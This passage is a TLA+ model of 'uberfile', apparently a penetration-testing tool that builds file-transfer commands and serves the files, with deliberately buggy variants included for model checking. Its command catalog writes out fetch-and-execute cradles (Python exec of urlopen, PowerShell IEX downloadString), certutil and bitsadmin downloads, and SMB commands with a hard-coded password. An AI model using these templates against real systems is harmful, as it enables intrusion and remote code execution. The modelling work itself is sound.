---- MODULE Spec2Model ----
(***************************************************************************)
(* A model of uberfile (src/uberfile): the command-template registry, the  *)
(* substitution of a context into a template, the run of main() and the    *)
(* dispatch of FileServer.serve.                                           *)
(*                                                                         *)
(* A Python str is a sequence of lexemes.  "{" and "}" are lexemes of      *)
(* their own, so that str.replace and str.format see the braces of a       *)
(* template; every other lexeme is a piece of text without braces.         *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
    gen_template,   \* SimpleCommand.template of the command under generate()
    gen_context,    \* the CommandContext passed to generate()
    gen_result,     \* what generate() returned or raised; Pending before the call
    commands,       \* CommandRegistry._commands
    added,          \* history: the add_command calls that returned, in order
    call,           \* the last call made on the registry and its outcome
    pc,             \* where the run of main() / FileServer.serve() stands
    options,        \* the argparse Namespace of the run
    locals,         \* the local variables of main()
    out,            \* what the run has shown: prints, log, clipboard, exit status
    config,         \* the ServerConfig handed to FileServer
    srv,            \* what FileServer.serve has done so far
    fs,             \* the file system, as far as the run has looked at it
    invocations,    \* concurrent runs of the tool sharing the certificate cache
    pem             \* the cached certificate and key: which openssl run wrote each

genVars == <<gen_template, gen_context, gen_result>>
regVars == <<commands, added, call>>
runVars == <<pc, options, locals, out, config, srv, fs>>

certVars == <<invocations, pem>>
vars == <<genVars, regVars, runVars, certVars>>

(***************************************************************************)
(* Bounds of the model.                                                    *)
(***************************************************************************)
MaxSegs == 3        \* a generated template has at most this many segments
MaxAdds == 3        \* add_command calls made on a registry built by hand
MaxInvocations == 2 \* concurrent runs of the tool on one certificate cache
MaxFzfFailures == 1 \* SubprocessErrors of the fzf command in one run

(***************************************************************************)
(* Strings.                                                                *)
(***************************************************************************)
Str(lexeme) == <<lexeme>>

Placeholder(name) == <<"{", name, "}">>

StandardNames == {"LHOST", "LPORT", "INPUTFILE", "OUTPUTFILE"}

\* str.lower() on the protocol names the program handles
Lower(s) ==
    CASE s = "HTTP"    -> "http"
      [] s = "HTTPS"   -> "https"
      [] s = "FTP"     -> "ftp"
      [] s = "FTPS"    -> "ftps"
      [] s = "SMB"     -> "smb"
      [] s = "SCP"     -> "scp"
      [] s = "WEBDAV"  -> "webdav"
      [] s = "WEBDAVS" -> "webdavs"
      [] OTHER         -> s

\* str.upper() on the protocol names the program handles
Upper(s) ==
    CASE s = "http"    -> "HTTP"
      [] s = "https"   -> "HTTPS"
      [] s = "ftp"     -> "FTP"
      [] s = "ftps"    -> "FTPS"
      [] s = "smb"     -> "SMB"
      [] s = "scp"     -> "SCP"
      [] s = "webdav"  -> "WEBDAV"
      [] s = "webdavs" -> "WEBDAVS"
      [] OTHER         -> s

\* str.replace(old, new): every non-overlapping occurrence, left to right
RECURSIVE Replace(_, _, _)
Replace(s, old, new) ==
    IF Len(s) < Len(old) THEN s
    ELSE IF SubSeq(s, 1, Len(old)) = old
         THEN new \o Replace(SubSeq(s, Len(old) + 1, Len(s)), old, new)
         ELSE <<s[1]>> \o Replace(Tail(s), old, new)

\* str.endswith(suffix)
EndsWith(s, suffix) ==
    /\ Len(s) >= Len(suffix)
    /\ SubSeq(s, Len(s) - Len(suffix) + 1, Len(s)) = suffix

Returned(v) == [ok |-> TRUE, val |-> v, err |-> "none"]
Raised(e) == [ok |-> FALSE, val |-> <<>>, err |-> e]
Pending == [ok |-> FALSE, val |-> <<>>, err |-> "pending"]

\* the first index >= i of s holding a brace, 0 when there is none
RECURSIVE NextBrace(_, _)
NextBrace(s, i) ==
    IF i > Len(s) THEN 0
    ELSE IF s[i] \in {"{", "}"} THEN i
    ELSE NextBrace(s, i + 1)

\* str.format(**kwargs) from index i on, done being the text produced so far:
\* "{{" and "}}" are escapes, "{name}" is looked up in kwargs once (the value
\* is not scanned again), a lone brace is a ValueError, "{}" an IndexError
\* (there are no positional arguments) and an unknown name a KeyError.
RECURSIVE FormatFrom(_, _, _, _)
FormatFrom(s, i, kwargs, done) ==
    IF i > Len(s) THEN Returned(done)
    ELSE IF s[i] = "{"
    THEN IF i + 1 <= Len(s) /\ s[i + 1] = "{"
         THEN FormatFrom(s, i + 2, kwargs, Append(done, "{"))
         ELSE LET j == NextBrace(s, i + 1) IN
              IF j = 0 \/ s[j] = "{" THEN Raised("ValueError")
              ELSE IF j = i + 1 THEN Raised("IndexError")
              ELSE IF j = i + 2 /\ s[i + 1] \in DOMAIN kwargs
                   THEN FormatFrom(s, j + 1, kwargs, done \o kwargs[s[i + 1]])
                   ELSE Raised("KeyError")
    ELSE IF s[i] = "}"
    THEN IF i + 1 <= Len(s) /\ s[i + 1] = "}"
         THEN FormatFrom(s, i + 2, kwargs, Append(done, "}"))
         ELSE Raised("ValueError")
    ELSE FormatFrom(s, i + 1, kwargs, Append(done, s[i]))

Format(s, kwargs) == FormatFrom(s, 1, kwargs, <<>>)

(***************************************************************************)
(* commands.py: CommandContext and SimpleCommand.generate                  *)
(***************************************************************************)
CommandContext(lhost, lport, input_file, output_file, protocol) ==
    [lhost |-> lhost, lport |-> lport, input_file |-> input_file,
     output_file |-> output_file, protocol |-> protocol]

\* the keyword arguments both calls of str.format pass
FormatKwargs(context) ==
    [n \in StandardNames |->
        CASE n = "LHOST"      -> context.lhost
          [] n = "LPORT"      -> context.lport
          [] n = "INPUTFILE"  -> context.input_file
          [] n = "OUTPUTFILE" -> context.output_file]

\* a slip of generate: the protocol name is not lower-cased
SimpleCommand_generate_NoLower(template, context) ==
    LET protocol_prefix == context.protocol IN
    IF protocol_prefix = "scp"
    THEN Format(template, FormatKwargs(context))
    ELSE Format(Replace(template, Placeholder("PROTO"), Str(protocol_prefix)),
                FormatKwargs(context))

\* a slip of generate: the placeholders are substituted by str.replace, one
\* after the other, so that a value put in by one is scanned by the next
SimpleCommand_generate_Replace(template, context) ==
    LET protocol_prefix == Lower(context.protocol)
        kwargs == FormatKwargs(context)
        proto == IF protocol_prefix = "scp" THEN template
                 ELSE Replace(template, Placeholder("PROTO"), Str(protocol_prefix))
        lhost == Replace(proto, Placeholder("LHOST"), kwargs["LHOST"])
        lport == Replace(lhost, Placeholder("LPORT"), kwargs["LPORT"])
        input_file == Replace(lport, Placeholder("INPUTFILE"), kwargs["INPUTFILE"])
    IN  Returned(Replace(input_file, Placeholder("OUTPUTFILE"), kwargs["OUTPUTFILE"]))

SimpleCommand_generate(template, context) ==
    LET protocol_prefix == Lower(context.protocol) IN
    IF protocol_prefix \notin {"https", "http", "ftp", "smb"}
       /\ protocol_prefix = "scp"
    THEN Format(template, FormatKwargs(context))
    ELSE Format(Replace(template, Placeholder("PROTO"), Str(protocol_prefix)),
                FormatKwargs(context))

\* the templates of linux/curl and linux/scp
CurlTemplate ==
    <<"curl ">> \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST")
    \o <<":">> \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE")
    \o <<" -o ">> \o Placeholder("OUTPUTFILE")

ScpTemplate ==
    <<"scp -P ">> \o Placeholder("LPORT") \o <<" ">> \o Placeholder("LHOST")
    \o <<":">> \o Placeholder("INPUTFILE") \o <<" ">> \o Placeholder("OUTPUTFILE")


(***************************************************************************)
(* commands.py: Command and CommandRegistry.  A dict is the sequence of    *)
(* its items in insertion order, each key once.                            *)
(***************************************************************************)
None == "None"

\* a slip of Command.__init__: the protocols are kept as given
Command_init_AsGiven(name, template, notes, protocols) ==
    [name |-> name, template |-> template, notes |-> notes,
     protocols |-> protocols]

\* Command.__init__; a protocols argument of None and one of set() are both
\* falsy and are both written {} here
Command_init(name, template, notes, protocols) ==
    [name |-> name, template |-> template, notes |-> notes,
     protocols |-> IF protocols = {} THEN {"HTTP"} ELSE protocols]

Keys(dict) == {dict[i].key : i \in DOMAIN dict}

\* dict[key], for a key of the dict
Item(dict, key) == dict[CHOOSE i \in DOMAIN dict : dict[i].key = key].value

\* dict.get(key, default)
Get(dict, key, default) == IF key \in Keys(dict) THEN Item(dict, key) ELSE default

\* dict[key] = value: an existing key keeps its place, a new one goes last
SetItem(dict, key, value) ==
    IF key \in Keys(dict)
    THEN [i \in DOMAIN dict |->
            IF dict[i].key = key THEN [key |-> key, value |-> value] ELSE dict[i]]
    ELSE Append(dict, [key |-> key, value |-> value])

\* CommandRegistry.__init__
CommandRegistry_init ==
    <<[key |-> "windows", value |-> <<>>], [key |-> "linux", value |-> <<>>]>>

\* a slip of add_command: a command that is already in the list is not
\* added again
add_command_NoDuplicate(registry, os_type, command_type, command) ==
    IF os_type \notin Keys(registry)
    THEN [raised |-> "ValueError", registry |-> registry]
    ELSE LET types == Item(registry, os_type)
             withKey == IF command_type \notin Keys(types)
                        THEN SetItem(types, command_type, <<>>)
                        ELSE types
             old == Item(withKey, command_type)
             list == IF \E i \in DOMAIN old : old[i] = command
                     THEN old ELSE Append(old, command)
         IN [raised |-> None,
             registry |-> SetItem(registry, os_type,
                                  SetItem(withKey, command_type, list))]

\* a slip of add_command: an unknown operating system gets a dict of its own
add_command_AnyOS(registry, os_type, command_type, command) ==
    LET types == Get(registry, os_type, <<>>)
        list == Append(Get(types, command_type, <<>>), command)
    IN [raised |-> None,
        registry |-> SetItem(registry, os_type, SetItem(types, command_type, list))]

\* add_command: the registry after the call, or the ValueError it raises
add_command(registry, os_type, command_type, command) ==
    IF os_type \notin Keys(registry)
    THEN [raised |-> "ValueError", registry |-> registry]
    ELSE LET types == Item(registry, os_type)
             withKey == IF command_type \notin Keys(types)
                        THEN SetItem(types, command_type, <<>>)
                        ELSE types
             list == Append(Item(withKey, command_type), command)
         IN [raised |-> None,
             registry |-> SetItem(registry, os_type,
                                  SetItem(withKey, command_type, list))]

\* a slip of get_commands: the list is returned unfiltered
get_commands_Unfiltered(registry, os_type, command_type, protocol) ==
    Get(Get(registry, os_type, <<>>), command_type, <<>>)

get_commands(registry, os_type, command_type, protocol) ==
    LET cmds == Get(Get(registry, os_type, <<>>), command_type, <<>>)
        Supports(cmd) == Upper(protocol) \in cmd.protocols
    IN SelectSeq(cmds, Supports)

\* a slip of get_command_types: all() in the place of any()
get_command_types_All(registry, os_type, protocol) ==
    LET types == Get(registry, os_type, <<>>)
        Supported(item) ==
            \A i \in DOMAIN item.value : Upper(protocol) \in item.value[i].protocols
        kept == SelectSeq(types, Supported)
    IN [i \in DOMAIN kept |-> kept[i].key]

\* a slip of get_command_types: the types are not filtered by the protocol
get_command_types_Unfiltered(registry, os_type, protocol) ==
    LET types == Get(registry, os_type, <<>>)
    IN [i \in DOMAIN types |-> types[i].key]

get_command_types(registry, os_type, protocol) ==
    LET types == Get(registry, os_type, <<>>)
        Supported(item) ==
            \E i \in DOMAIN item.value : Upper(protocol) \in item.value[i].protocols
        kept == SelectSeq(types, Supported)
    IN [i \in DOMAIN kept |-> kept[i].key]

\* the add_command calls of create_default_registry, in order
DefaultCatalog == <<
    <<"linux", "curl", Command_init("curl", CurlTemplate, None, {"HTTP", "HTTPS"})>>,
    <<"linux", "wget", Command_init("wget",
        <<"wget ">> \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST")
        \o <<":">> \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE")
        \o <<" -O ">> \o Placeholder("OUTPUTFILE"),
        None, {"HTTP", "HTTPS"})>>,
    <<"linux", "python", Command_init("python-memory",
        <<"python -c \"import urllib2; exec urllib2.urlopen('">>
        \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST") \o <<":">>
        \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE")
        \o <<"').read()\"">>,
        "In memory", {"HTTP", "HTTPS"})>>,
    <<"linux", "ftp", Command_init("ftp",
        <<"ftp -n ">> \o Placeholder("LHOST") \o <<" ">> \o Placeholder("LPORT")
        \o <<" <<EOF\nuser anonymous anonymous\nget ">> \o Placeholder("INPUTFILE")
        \o <<" ">> \o Placeholder("OUTPUTFILE") \o <<"\nbye\nEOF">>,
        None, {"FTP"})>>,
    <<"linux", "scp", Command_init("scp", ScpTemplate, None, {"SCP"})>>,
    <<"linux", "smbclient", Command_init("smbclient",
        <<"smbclient //">> \o Placeholder("LHOST")
        \o <<"/EXEGOL -U uberfile%exegol4thewin -c \"get ">>
        \o Placeholder("INPUTFILE") \o <<" ">> \o Placeholder("OUTPUTFILE")
        \o <<"\"">>,
        None, {"SMB"})>>,
    <<"windows", "certutil", Command_init("certutil",
        <<"certutil.exe -urlcache -f ">> \o Placeholder("PROTO") \o <<"://">>
        \o Placeholder("LHOST") \o <<":">> \o Placeholder("LPORT") \o <<"/">>
        \o Placeholder("INPUTFILE") \o <<" ">> \o Placeholder("OUTPUTFILE"),
        None, {"HTTP", "HTTPS"})>>,
    <<"windows", "powershell", Command_init("powershell-download",
        <<"powershell.exe -c \"(New-Object Net.WebClient).DownloadFile('">>
        \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST") \o <<":">>
        \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE") \o <<"','">>
        \o Placeholder("OUTPUTFILE") \o <<"')\"">>,
        None, {"HTTP", "HTTPS"})>>,
    <<"windows", "powershell", Command_init("powershell-webrequest",
        <<"powershell.exe -c \"Invoke-WebRequest '">> \o Placeholder("PROTO")
        \o <<"://">> \o Placeholder("LHOST") \o <<":">> \o Placeholder("LPORT")
        \o <<"/">> \o Placeholder("INPUTFILE") \o <<"' -OutFile '">>
        \o Placeholder("OUTPUTFILE") \o <<"'\"">>,
        None, {"HTTP", "HTTPS"})>>,
    <<"windows", "powershell", Command_init("powershell-bits",
        <<"powershell.exe -c \"Import-Module BitsTransfer; Start-BitsTransfer -Source '">>
        \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST") \o <<":">>
        \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE")
        \o <<"' -Destination '">> \o Placeholder("OUTPUTFILE") \o <<"'\"">>,
        None, {"HTTP", "HTTPS"})>>,
    <<"windows", "powershell", Command_init("powershell-bits-async",
        <<"powershell.exe -c \"Import-Module BitsTransfer; Start-BitsTransfer -Source '">>
        \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST") \o <<":">>
        \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE")
        \o <<"' -Destination '">> \o Placeholder("OUTPUTFILE")
        \o <<"' -Asynchronous\"">>,
        None, {"HTTP", "HTTPS"})>>,
    <<"windows", "powershell", Command_init("powershell-memory",
        <<"powershell.exe \"IEX(New-Object Net.WebClient).downloadString('">>
        \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST") \o <<":">>
        \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE")
        \o <<"')\"">>,
        "In memory", {"HTTP", "HTTPS"})>>,
    <<"windows", "bitsadmin", Command_init("bitsadmin",
        <<"bitsadmin.exe /transfer 5720 /download /priority normal ">>
        \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST") \o <<":">>
        \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE") \o <<" ">>
        \o Placeholder("OUTPUTFILE"),
        None, {"HTTP", "HTTPS"})>>,
    <<"windows", "wget", Command_init("wget",
        <<"wget \"">> \o Placeholder("PROTO") \o <<"://">> \o Placeholder("LHOST")
        \o <<":">> \o Placeholder("LPORT") \o <<"/">> \o Placeholder("INPUTFILE")
        \o <<"\" -OutFile \"">> \o Placeholder("OUTPUTFILE") \o <<"\"">>,
        None, {"HTTP", "HTTPS"})>>,
    <<"windows", "ftp", Command_init("ftp",
        <<"echo open ">> \o Placeholder("LHOST") \o <<" ">> \o Placeholder("LPORT")
        \o <<"> ftp.txt && echo user anonymous anonymous>> ftp.txt && echo get ">>
        \o Placeholder("INPUTFILE") \o <<" ">> \o Placeholder("OUTPUTFILE")
        \o <<">> ftp.txt && echo bye>> ftp.txt && ftp -s:ftp.txt && del ftp.txt">>,
        None, {"FTP"})>>,
    <<"windows", "net-use", Command_init("net-use",
        <<"net use \\\\">> \o Placeholder("LHOST")
        \o <<"\\EXEGOL /user:uberfile exegol4thewin && copy \\\\">>
        \o Placeholder("LHOST") \o <<"\\EXEGOL\\">> \o Placeholder("INPUTFILE")
        \o <<" ">> \o Placeholder("OUTPUTFILE") \o <<" && net use \\\\">>
        \o Placeholder("LHOST") \o <<"\\EXEGOL /delete">>,
        None, {"SMB"})>>,
    <<"windows", "powershell-smb", Command_init("powershell-smb",
        <<"powershell.exe -c \"$pass = ConvertTo-SecureString 'exegol4thewin' -AsPlainText -Force; $cred = New-Object System.Management.Automation.PSCredential('uberfile', $pass); New-PSDrive -Name 'Z' -PSProvider FileSystem -Root \\\\">>
        \o Placeholder("LHOST") \o <<"\\EXEGOL -Credential $cred; Copy-Item -Path Z:\\">>
        \o Placeholder("INPUTFILE") \o <<" -Destination ">>
        \o Placeholder("OUTPUTFILE") \o <<"; Remove-PSDrive -Name 'Z'\"">>,
        None, {"SMB"})>>,
    <<"windows", "robocopy", Command_init("robocopy",
        <<"net use \\\\">> \o Placeholder("LHOST")
        \o <<"\\EXEGOL /user:uberfile exegol4thewin && robocopy \\\\">>
        \o Placeholder("LHOST") \o <<"\\EXEGOL . ">> \o Placeholder("INPUTFILE")
        \o <<" /COPY:DAT /Z && net use \\\\">> \o Placeholder("LHOST")
        \o <<"\\EXEGOL /delete">>,
        "Robust copy with restart capability", {"SMB"})>>
    >>

\* the registry after the first n add_command calls of the catalog
RECURSIVE RegistryAfter(_)
RegistryAfter(n) ==
    IF n = 0 THEN CommandRegistry_init
    ELSE add_command(RegistryAfter(n - 1), DefaultCatalog[n][1],
                     DefaultCatalog[n][2], DefaultCatalog[n][3]).registry

create_default_registry == RegistryAfter(Len(DefaultCatalog))

(***************************************************************************)
(* Paths and the file system.  A path is its directory names and its file  *)
(* name (a string); a directory is a path with the empty name.  The file   *)
(* system is the function fs from the absolute paths the run has looked at *)
(* to what it found there: the first look at a path may find anything, a   *)
(* later look finds the same.                                              *)
(***************************************************************************)
Path(abs, dirs, name) == [abs |-> abs, dirs |-> dirs, name |-> name]

NoPath == Path(FALSE, <<>>, <<>>)

\* os.getcwd()
getcwd == Path(TRUE, <<"home", "op">>, <<>>)

\* os.path.isabs, os.path.basename, os.path.dirname, os.path.join
isabs(path) == path.abs
basename(path) == path.name
dirname(path) == Path(path.abs, path.dirs, <<>>)
join(directory, path) ==
    IF isabs(path) THEN path
    ELSE Path(directory.abs, directory.dirs \o path.dirs, path.name)

\* the file a path names to the operating system: a relative path is
\* relative to the working directory
Resolve(path) == join(getcwd, path)

FileStates ==
    {[kind |-> "absent", readable |-> FALSE, head |-> "other"],
     [kind |-> "dir", readable |-> TRUE, head |-> "other"]}
    \cup [kind : {"file"}, readable : BOOLEAN, head : {"elf", "shebang", "other"}]

\* nothing looked at yet
NoLooks == [path \in {} |-> 0]

\* the look at path finds state st
Looks(path, st) ==
    IF Resolve(path) \in DOMAIN fs THEN st = fs[Resolve(path)] ELSE st \in FileStates

Looked(path, st) == (Resolve(path) :> st) @@ fs

\* os.path.exists, os.path.isfile, os.access(R_OK) on what a look found
exists(st) == st.kind # "absent"
isfile(st) == st.kind = "file"
access_R_OK(st) == exists(st) /\ st.readable

\* a slip of is_elf_or_shell: only the '.sh' suffix is looked at
is_elf_or_shell_SuffixOnly(filepath, st) ==
    EndsWith(basename(filepath), <<".sh">>)

\* __main__.py is_elf_or_shell, on a path whose look found st: both open()
\* calls raise on what cannot be opened for reading, and the except clause
\* turns that into False
is_elf_or_shell(filepath, st) ==
    IF ~(isfile(st) /\ st.readable) THEN FALSE
    ELSE IF st.head = "elf" THEN TRUE
    ELSE IF st.head = "shebang" THEN TRUE
    ELSE IF EndsWith(basename(filepath), <<".sh">>) THEN TRUE
    ELSE FALSE

(***************************************************************************)
(* __main__.py: the run of main().                                         *)
(***************************************************************************)
NoOptions ==
    [LIST |-> FALSE, TARGETOS |-> None, LHOST |-> <<>>, PROTOCOL |-> None,
     LPORT |-> <<>>, TYPE |-> None, INPUTFOLDER |-> getcwd,
     INPUTFILE |-> NoPath, OUTPUTFILE |-> <<>>]

NoLocals ==
    [target_os |-> None, lhost |-> <<>>, protocol |-> None, lport |-> <<>>,
     command_type |-> None, input_file |-> NoPath, output_file |-> <<>>,
     commands |-> <<>>, needs_chmod |-> FALSE, command_tuples |-> <<>>,
     menu |-> <<>>, selection |-> 0]

\* what the operator has seen of the run: the lines printed, the commands
\* displayed, the errors logged, the clipboard, the exit status once the
\* process has ended (-1 before) and the exception that ended it, if any
NoOutput ==
    [printed |-> <<>>, displayed |-> <<>>, errors |-> <<>>, clipboard |-> <<>>,
     copied |-> FALSE, exit_code |-> -1, exception |-> None]

NoConfig ==
    [host |-> <<>>, port |-> 0, directory |-> NoPath, input_file |-> NoPath,
     protocol |-> None]

\* what serve() has done: who called it, whether validate_file passed, the
\* handler it called, the server ("none", "serving" while it blocks,
\* "stopped"), the runs of openssl and of pip install, whether the operator
\* interrupted the server, how the server failed if it did, and what serve()
\* returned ("True" / "False", None before), and what the look for the
\* cached certificate and key found ("present" / "missing", None before)
NoServer ==
    [caller |-> None, validated |-> FALSE, handler |-> None, state |-> "none",
     cert_runs |-> 0, installs |-> 0, interrupted |-> FALSE, failed |-> None,
     result |-> None, cache |-> None]

\* int(lport) on the port strings of the model; int() raises ValueError on
\* any other string
IntOf(lport) ==
    CASE lport = <<"80">> -> 80 [] lport = <<"443">> -> 443 [] lport = <<"21">> -> 21
      [] lport = <<"445">> -> 445 [] lport = <<"22">> -> 22 [] lport = <<"8080">> -> 8080
      [] OTHER -> -1

\* the order of sorted() on the command types of the catalog
TypeRank(t) ==
    CASE t = "bitsadmin" -> 1 [] t = "certutil" -> 2 [] t = "curl" -> 3
      [] t = "ftp" -> 4 [] t = "net-use" -> 5 [] t = "powershell" -> 6
      [] t = "powershell-smb" -> 7 [] t = "python" -> 8 [] t = "robocopy" -> 9
      [] t = "scp" -> 10 [] t = "smbclient" -> 11 [] t = "wget" -> 12
      [] OTHER -> 13

\* sorted(list) of command types
RECURSIVE sorted(_)
sorted(list) ==
    IF list = <<>> THEN <<>>
    ELSE LET i == CHOOSE i \in DOMAIN list :
                    \A j \in DOMAIN list : TypeRank(list[i]) <= TypeRank(list[j])
             rest == [k \in 1..(Len(list) - 1) |-> IF k < i THEN list[k] ELSE list[k + 1]]
         IN <<list[i]>> \o sorted(rest)

\* sys.exit(code), and the end of the process by an uncaught exception
Exit(code) ==
    /\ pc' = "exited"
    /\ out' = [out EXCEPT !.exit_code = code]

Crash(exception) ==
    /\ pc' = "exited"
    /\ out' = [out EXCEPT !.exit_code = 1, !.exception = exception]

\* main, lines 137-141: parse_arguments (the options are those of Init),
\* create_default_registry, and the test of --list
CreateDefaultRegistry ==
    /\ pc = "main"
    /\ commands' = create_default_registry
    /\ added' = DefaultCatalog
    /\ pc' = IF options.LIST THEN "list_commands" ELSE "get_target_os"
    /\ UNCHANGED <<call, options, locals, out, config, srv, fs, genVars, certVars>>

\* list_commands: the first header is printed, then get_command_types is
\* called with one argument, where its signature (commands.py:81) has two
\* required ones: Python raises TypeError before the body runs
ListCommands ==
    /\ pc = "list_commands"
    /\ pc' = "exited"
    /\ out' = [out EXCEPT !.printed = Append(@, "Windows commands"),
                          !.exit_code = 1, !.exception = "TypeError"]
    /\ UNCHANGED <<regVars, options, locals, config, srv, fs, genVars, certVars>>

\* get_target_os: options.TARGETOS or ui.select_os()
GetTargetOs ==
    /\ pc = "get_target_os"
    /\ \E menu \in {"windows", "linux"} :
        locals' = [locals EXCEPT !.target_os =
                      IF options.TARGETOS # None THEN options.TARGETOS ELSE menu]
    /\ pc' = "get_lhost"
    /\ UNCHANGED <<regVars, options, out, config, srv, fs, genVars, certVars>>

\* get_lhost: options.LHOST or ui.select_interface()
GetLhost ==
    /\ pc = "get_lhost"
    /\ locals' = [locals EXCEPT !.lhost =
                     IF options.LHOST # <<>> THEN options.LHOST ELSE <<"192.168.1.5">>]
    /\ pc' = "get_protocol"
    /\ UNCHANGED <<regVars, options, out, config, srv, fs, genVars, certVars>>

\* get_protocol: options.PROTOCOL or ui.select_protocol()
GetProtocol ==
    /\ pc = "get_protocol"
    /\ \E menu \in {"HTTP", "HTTPS", "FTP", "SMB", "SCP"} :
        locals' = [locals EXCEPT !.protocol =
                      IF options.PROTOCOL # None THEN options.PROTOCOL ELSE menu]
    /\ pc' = "get_lport"
    /\ UNCHANGED <<regVars, options, out, config, srv, fs, genVars, certVars>>

\* ui.select_port: the default port of the protocol
default_ports(protocol) ==
    CASE protocol = "HTTP" -> <<"80">> [] protocol = "HTTPS" -> <<"443">>
      [] protocol = "FTP" -> <<"21">> [] protocol = "SMB" -> <<"445">>
      [] protocol = "SCP" -> <<"22">> [] OTHER -> <<"80">>

\* get_lport: options.LPORT or ui.select_port(protocol); the custom entry of
\* the menu is whatever the operator types
GetLport ==
    /\ pc = "get_lport"
    /\ \E menu \in {default_ports(locals.protocol), <<"port?">>} :
        locals' = [locals EXCEPT !.lport =
                      IF options.LPORT # <<>> THEN options.LPORT ELSE menu]
    /\ pc' = "get_command_type"
    /\ UNCHANGED <<regVars, options, out, config, srv, fs, genVars, certVars>>

\* a slip of select_command_type: the index is applied to the list as given
select_command_type_Unsorted(available_types, selection) ==
    available_types[selection]

\* ui.select_command_type: the menu shows sorted(available_types); the entry
\* returned for the selected position (counted from 1 here)
select_command_type(available_types, selection) ==
    sorted(available_types)[selection]

\* get_command_type: with no --command, the available types; none: an error
\* is logged and the run exits 1; else the menu shows them sorted and the
\* selected entry is returned; locals.menu and locals.selection keep what the
\* menu showed and the position selected
GetCommandType ==
    /\ pc = "get_command_type"
    /\ LET available_types == get_command_types(commands, locals.target_os, locals.protocol) IN
       IF options.TYPE # None
       THEN /\ locals' = [locals EXCEPT !.command_type = options.TYPE]
            /\ pc' = "get_input_file"
            /\ out' = out
       ELSE IF available_types = <<>>
       THEN /\ pc' = "exited"
            /\ out' = [out EXCEPT !.errors = Append(@, "No commands available"),
                                  !.exit_code = 1]
            /\ locals' = locals
       ELSE /\ \E selection \in DOMAIN available_types :
                locals' = [locals EXCEPT
                    !.menu = sorted(available_types),
                    !.selection = selection,
                    !.command_type = select_command_type(available_types, selection)]
            /\ pc' = "get_input_file"
            /\ out' = out
    /\ UNCHANGED <<regVars, options, config, srv, fs, genVars, certVars>>

\* the files ui.select_file can return: an entry of os.listdir(current_dir)
\* that is a file there, or the path fzf prints
MenuFiles == {<<"linpeas", ".sh">>}
FzfPaths == {Path(TRUE, <<"opt", "resources">>, <<"nc">>)}

\* the fzf entries of the menu
FzfEntries == {<<"fzf resources">>}

\* how often running the fzf command has raised in this run
FzfFailures ==
    LET Failed(line) == line = "Failed to run fzf command"
    IN Len(SelectSeq(out.printed, Failed))

\* get_input_file: options.INPUTFILE or ui.select_file(options.INPUTFOLDER).
\* select_file returns the menu entry selected if it is a file of the
\* folder; for an fzf entry it returns what fzf printed if fzf exited with
\* status 0, the entry itself if fzf exited with another status, and if
\* subprocess.run raised SubprocessError it prints that and calls itself
\* again, showing the menu once more
GetInputFile ==
    /\ pc = "get_input_file"
    /\ \/ /\ options.INPUTFILE # NoPath
          /\ locals' = [locals EXCEPT !.input_file = options.INPUTFILE]
          /\ fs' = fs
          /\ out' = out
          /\ pc' = "get_output_file"
       \/ /\ options.INPUTFILE = NoPath
          /\ \E f \in MenuFiles, st \in FileStates :
                LET listed == join(options.INPUTFOLDER, Path(FALSE, <<>>, f)) IN
                /\ Looks(listed, st)
                /\ isfile(st)
                /\ fs' = Looked(listed, st)
                /\ locals' = [locals EXCEPT !.input_file = Path(FALSE, <<>>, f)]
          /\ out' = out
          /\ pc' = "get_output_file"
       \/ /\ options.INPUTFILE = NoPath
          /\ \E path \in FzfPaths :
                locals' = [locals EXCEPT !.input_file = path]
          /\ fs' = fs
          /\ out' = out
          /\ pc' = "get_output_file"
       \/ /\ options.INPUTFILE = NoPath
          /\ \E selected \in FzfEntries :
                locals' = [locals EXCEPT !.input_file = Path(FALSE, <<>>, selected)]
          /\ fs' = fs
          /\ out' = out
          /\ pc' = "get_output_file"
       \/ /\ options.INPUTFILE = NoPath
          /\ FzfFailures < MaxFzfFailures
          /\ out' = [out EXCEPT !.printed = Append(@, "Failed to run fzf command")]
          /\ fs' = fs
          /\ pc' = pc
          /\ locals' = locals
    /\ UNCHANGED <<regVars, options, config, srv, genVars, certVars>>

\* ui.select_output_file(input_file, os_type): the same name, or the same
\* name in the temporary directory of the target
select_output_file(name, os_type) ==
    {name,
     IF os_type = "windows" THEN <<"C:\\Windows\\Temp\\">> \o name
     ELSE <<"/tmp/">> \o name}

\* get_output_file: options.OUTPUTFILE or ui.select_output_file(...)
GetOutputFile ==
    /\ pc = "get_output_file"
    /\ \E menu \in select_output_file(basename(locals.input_file), locals.target_os) :
        locals' = [locals EXCEPT !.output_file =
                      IF options.OUTPUTFILE # <<>> THEN options.OUTPUTFILE ELSE menu]
    /\ pc' = "get_commands"
    /\ UNCHANGED <<regVars, options, out, config, srv, fs, genVars, certVars>>

\* the CommandContext of main (lines 152-158)
context ==
    CommandContext(locals.lhost, locals.lport, basename(locals.input_file),
                   locals.output_file, locals.protocol)

\* a slip of get_commands: dict.pop in the place of dict.get, which takes the
\* command type out of the registry
MainGetCommands_Pop ==
    /\ pc = "get_commands"
    /\ LET cmds == get_commands(commands, locals.target_os, locals.command_type,
                                locals.protocol) IN
       IF cmds = <<>>
       THEN /\ pc' = "exited"
            /\ out' = [out EXCEPT !.errors = Append(@, "No commands found"),
                                  !.exit_code = 1]
            /\ locals' = locals
       ELSE /\ pc' = "generate_command_tuples"
            /\ locals' = [locals EXCEPT !.commands = cmds]
            /\ out' = out
    /\ commands' = SetItem(commands, locals.target_os,
                           SetItem(Get(commands, locals.target_os, <<>>),
